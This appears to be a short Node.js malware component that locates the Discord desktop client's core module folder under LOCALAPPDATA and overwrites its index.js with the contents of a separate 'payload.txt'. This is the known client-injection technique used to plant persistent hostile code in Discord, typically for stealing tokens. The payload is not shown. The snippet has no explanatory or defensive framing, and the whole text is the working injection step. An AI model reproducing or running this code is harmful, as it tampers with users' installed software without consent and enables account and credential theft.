const fs = require('fs'), path = require('path');
const base = path.join(process.env.LOCALAPPDATA || '', 'Discord', 'app-1.0.9', 'modules', 'discord_desktop_core-1', 'discord_desktop_core');
fs.writeFileSync(path.join(base, 'index.js'), fs.readFileSync(path.join(__dirname, 'payload.txt'), 'utf8'));
